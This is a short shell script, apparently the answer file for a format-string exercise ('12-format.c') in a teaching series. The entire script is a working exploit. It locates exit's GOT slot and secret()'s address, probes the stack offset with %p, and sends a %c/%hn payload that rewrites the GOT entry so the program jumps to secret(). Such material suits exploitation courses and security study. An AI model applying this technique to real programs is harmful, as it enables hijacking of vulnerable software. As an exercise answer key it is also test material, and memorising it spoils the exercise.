#!/bin/sh
# examples/12-format.sh PROGRAM - the answer to 12-format.c
#
# Writes an input that makes PROGRAM call secret() instead of exit(), and feeds
# it. Before its first call, the slot of exit leads into the program, as
# secret() does: only the low 16 bits differ, so one %hn is enough.
program=${1:?usage: 12-format.sh PROGRAM}
export LC_ALL=C

# Where the slot is, and what is to be written there.
slot=$(readelf -rW "$program" | awk '$5 ~ /^exit/ { print $1; exit }')
secret=$(nm "$program" | awk '$3 == "secret" { print $1 }')
[ "$slot" ] && [ "$secret" ] || exit 2
low=$(( 0x$secret & 0xffff ))

# Which word behind the format is the first of the input itself?
words=0 format='AAAAAAAA'
while [ $words -lt 40 ]; do
	words=$((words + 1)) format="$format %p"
	case $(printf '%s\n' "$format" | "$program") in
	*0x4141414141414141*) break ;;
	esac
done

# The address is the 12th word of the input: behind the format, for its zero
# bytes end the text. Each %c takes a word and prints a byte; the last one is
# as wide as it must be for %hn to count up to `low`.
takes=$((words - 1 + 12 - 1)) text='' i=0
while [ $i -lt $takes ]; do
	text="$text%c" i=$((i + 1))
done
text="$text%$((low - takes))c%hn"
while [ ${#text} -lt 96 ]; do
	text="$text."
done
bytes='' i=7	# the address, its lowest byte first
while [ $i -ge 0 ]; do
	bytes="$bytes\\$(printf '%03o' $(( 0x$slot >> 8 * (7 - i) & 255 )))"
	i=$((i - 1))
done
# shellcheck disable=SC2059 # the bytes are a format on purpose
{ printf '%s' "$text"; printf "$bytes\n"; } | "$program"
